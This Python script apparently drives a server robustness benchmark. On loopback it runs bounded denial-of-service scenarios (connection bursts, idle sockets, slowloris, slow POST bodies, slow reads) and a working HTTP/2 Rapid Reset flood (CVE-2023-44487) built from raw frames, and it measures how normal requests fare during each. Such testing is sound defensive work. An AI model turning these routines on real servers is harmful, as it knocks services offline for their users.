#!/usr/bin/env python3
"""The clients of benches/abuse.sh: attack scenarios against one server on loopback, each
bounded in count and time, each reporting how well-behaved viewers fare during the attack.

    abuse.py burst PORT HOST PATH N            N new connections at once, one GET each
    abuse.py idle  PORT HOST PATH N SECS HOLD  N silent connections, well-behaved GETs for SECS,
                                               then how many of the N the server closed within HOLD
    abuse.py good  PORT HOST PATH SECS         well-behaved GETs alone (the unloaded baseline)
    abuse.py slowloris PORT HOST PATH N SECS   N connections dribbling a request head, one byte
                                               a second, while well-behaved GETs run for SECS
    abuse.py slowbody  PORT HOST PATH N SECS UPLOAD
                                               N POSTs to UPLOAD announcing 1 MB and sending
                                               one byte a second, likewise
    abuse.py slowread  PORT HOST PATH N SECS BIG
                                               N connections asking for BIG (a large cached
                                               object) and never reading, likewise
    abuse.py rapidreset PORT HOST PATH N SECS  N HTTP/2 (h2c, prior knowledge) connections
                                               opening and at once cancelling streams
                                               (HEADERS then RST_STREAM, CVE-2023-44487) as
                                               fast as they can, likewise; PORT may be
                                               "H1PORT/H2PORT" when the server takes h2c on its
                                               own port (nginx before 1.25.1)

Each prints one JSON object. PIDS (comma-separated, in the environment) are the server's
processes: their resident memory and CPU time are reported too."""
import asyncio
import json
import os
import resource
import sys
import time

TIMEOUT = 10.0


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def server_usage():
    """Resident KiB and CPU seconds of the processes in $PIDS."""
    rss, cpu = 0, 0.0
    tick = os.sysconf("SC_CLK_TCK")
    for pid in filter(None, os.environ.get("PIDS", "").split(",")):
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        rss += int(line.split()[1])
            with open(f"/proc/{pid}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
                cpu += (int(fields[11]) + int(fields[12])) / tick
        except OSError:
            pass
    return rss, cpu


async def get(port, host, path):
    """One GET on a new connection: (succeeded, seconds)."""
    t0 = time.perf_counter()
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port), TIMEOUT)
        writer.write(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        data = await asyncio.wait_for(reader.read(), TIMEOUT)
        writer.close()
        ok = data.startswith(b"HTTP/1.1 200")
    except (OSError, asyncio.TimeoutError):
        ok = False
    return ok, time.perf_counter() - t0


async def hold_open(port, first, drip, secs, reads):
    """One attacking connection: sends `first`, then a byte of `drip` every second, for `secs`;
    reads (and throws away) what comes back only when `reads`. True when the server closed it."""
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port), TIMEOUT)
    except (OSError, asyncio.TimeoutError):
        return None
    if not reads:
        sock = writer.get_extra_info("socket")
        if sock is not None:
            # A small receive window, so that the server's sends block soon.
            import socket
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    end = time.monotonic() + secs
    closed = False
    try:
        writer.write(first)
        await writer.drain()
        i = 0
        while time.monotonic() < end:
            if reads:
                try:
                    data = await asyncio.wait_for(reader.read(65536), 1.0)
                    if data == b"":
                        closed = True
                        break
                    continue
                except asyncio.TimeoutError:
                    pass
            else:
                await asyncio.sleep(1.0)
            if drip:
                writer.write(drip[i % len(drip):i % len(drip) + 1])
                i += 1
                await asyncio.wait_for(writer.drain(), 1.0)
            if reader.at_eof():
                closed = True
                break
    except (OSError, asyncio.TimeoutError):
        closed = True
    finally:
        writer.close()
    return closed


def h2_frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hpack_literal(name, value):
    """A header as HPACK's literal without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


async def rapid_reset(port, host, path, secs):
    """One attacker: h2c connections (again when the server closes one) on which streams are
    opened and cancelled at once, as fast as the server takes them. (streams, connections,
    GOAWAYs seen)."""
    block = b"".join(hpack_literal(k, v) for k, v in (
        (":method", "GET"), (":scheme", "http"), (":path", path), (":authority", host)))
    streams = conns = goaways = 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), TIMEOUT)
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.1)
            continue
        conns += 1
        gone = asyncio.Event()

        async def read_frames():
            nonlocal goaways
            try:
                while True:
                    head = await reader.readexactly(9)
                    length = int.from_bytes(head[:3], "big")
                    kind, flags = head[3], head[4]
                    await reader.readexactly(length)
                    if kind == 0x4 and not flags & 0x1:
                        writer.write(h2_frame(0x4, 0x1, 0))
                    elif kind == 0x7:
                        goaways += 1
            except (OSError, asyncio.IncompleteReadError):
                pass
            gone.set()
        task = asyncio.ensure_future(read_frames())
        try:
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(0x4, 0, 0))
            stream = 1
            while time.monotonic() < end and not gone.is_set() and stream < 2**31 - 200:
                batch = bytearray()
                for _ in range(100):
                    batch += h2_frame(0x1, 0x5, stream, block)
                    batch += h2_frame(0x3, 0, stream, (8).to_bytes(4, "big"))
                    stream += 2
                writer.write(bytes(batch))
                await asyncio.wait_for(writer.drain(), 2.0)
                streams += 100
                await asyncio.sleep(0)
        except (OSError, asyncio.TimeoutError):
            pass
        finally:
            writer.close()
            task.cancel()
    return streams, conns, goaways


async def attack_during(port, host, path, secs, attackers):
    """Starts the attackers, lets them settle for a second, measures well-behaved viewers for
    `secs`, then waits for the attackers (each bounded by `secs` + 2 s)."""
    tasks = [asyncio.ensure_future(a) for a in attackers]
    await asyncio.sleep(1.0)
    results = await well_behaved(port, host, path, secs)
    done = await asyncio.gather(*tasks, return_exceptions=True)
    return results, [d for d in done if not isinstance(d, BaseException)]


def summary(results):
    times = sorted(t for _, t in results)
    ok = sum(1 for o, _ in results if o)
    pick = lambda q: round(times[min(len(times) - 1, int(q * len(times)))] * 1000, 2) if times else None
    return {"requests": len(results), "ok_pct": round(100.0 * ok / max(1, len(results)), 2),
            "p50_ms": pick(0.5), "p99_ms": pick(0.99), "max_ms": pick(1.0)}


async def well_behaved(port, host, path, secs):
    results = []
    end = time.monotonic() + secs
    while time.monotonic() < end:
        results.append(await get(port, host, path))
    return results


async def main(argv):
    raise_fd_limit()
    kind, host, path = argv[0], argv[2], argv[3]
    port = int(argv[1].split("/")[0])
    rss0, cpu0 = server_usage()
    out = {"scenario": kind}
    if kind == "burst":
        n = int(argv[4])
        t0 = time.perf_counter()
        results = await asyncio.gather(*(get(port, host, path) for _ in range(n)))
        out.update(summary(results), wall_ms=round((time.perf_counter() - t0) * 1000, 1))
    elif kind == "good":
        out.update(summary(await well_behaved(port, host, path, float(argv[4]))))
    elif kind == "idle":
        n, secs, hold = int(argv[4]), float(argv[5]), float(argv[6])
        t0 = time.monotonic()
        idle = []
        for _ in range(n):
            try:
                idle.append(await asyncio.wait_for(
                    asyncio.open_connection("127.0.0.1", port), TIMEOUT))
            except (OSError, asyncio.TimeoutError):
                break
        out["idle_opened"] = len(idle)
        out.update(summary(await well_behaved(port, host, path, secs)))
        await asyncio.sleep(max(0.0, hold - (time.monotonic() - t0)))

        async def closed(reader):
            try:
                return await asyncio.wait_for(reader.read(1), 0.05) == b""
            except asyncio.TimeoutError:
                return False
            except OSError:
                return True
        gone = await asyncio.gather(*(closed(r) for r, _ in idle))
        out[f"idle_closed_within_{hold:g}s"] = sum(gone)
        for _, w in idle:
            w.close()
    elif kind in ("slowloris", "slowbody", "slowread"):
        n, secs = int(argv[4]), float(argv[5])
        length = secs + 3
        if kind == "slowloris":
            first = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode()
            drip = b"X-Dribble: " + b"a" * 64 + b"\r\n"
            attackers = [hold_open(port, first, drip, length, True) for _ in range(n)]
        elif kind == "slowbody":
            upload = argv[6]
            first = (f"POST {upload} HTTP/1.1\r\nHost: {host}\r\n"
                     f"Content-Length: 1000000\r\n\r\n").encode()
            attackers = [hold_open(port, first, b"b", length, True) for _ in range(n)]
        else:
            big = argv[6]
            first = f"GET {big} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
            attackers = [hold_open(port, first, b"", length, False) for _ in range(n)]
        results, done = await attack_during(port, host, path, secs, attackers)
        out.update(summary(results))
        out["attackers"] = n
        out["attackers_closed"] = sum(1 for d in done if d)
        out["attackers_refused"] = sum(1 for d in done if d is None)
    elif kind == "rapidreset":
        n, secs = int(argv[4]), float(argv[5])
        h2port = port
        if "/" in argv[1]:
            port, h2port = (int(p) for p in argv[1].split("/"))
        attackers = [rapid_reset(h2port, host, path, secs + 1) for _ in range(n)]
        results, done = await attack_during(port, host, path, secs, attackers)
        out.update(summary(results))
        out["attackers"] = n
        out["streams_reset"] = sum(d[0] for d in done)
        out["attack_connections"] = sum(d[1] for d in done)
        out["goaways"] = sum(d[2] for d in done)
    else:
        sys.exit(f"abuse.py: unknown scenario {kind}")
    rss1, cpu1 = server_usage()
    out.update(server_rss_mib=round(rss1 / 1024, 1), server_cpu_s=round(cpu1 - cpu0, 2))
    print(json.dumps(out))


if __name__ == "__main__":
    if len(sys.argv) < 5:
        sys.exit(__doc__)
    asyncio.run(main(sys.argv[1:]))
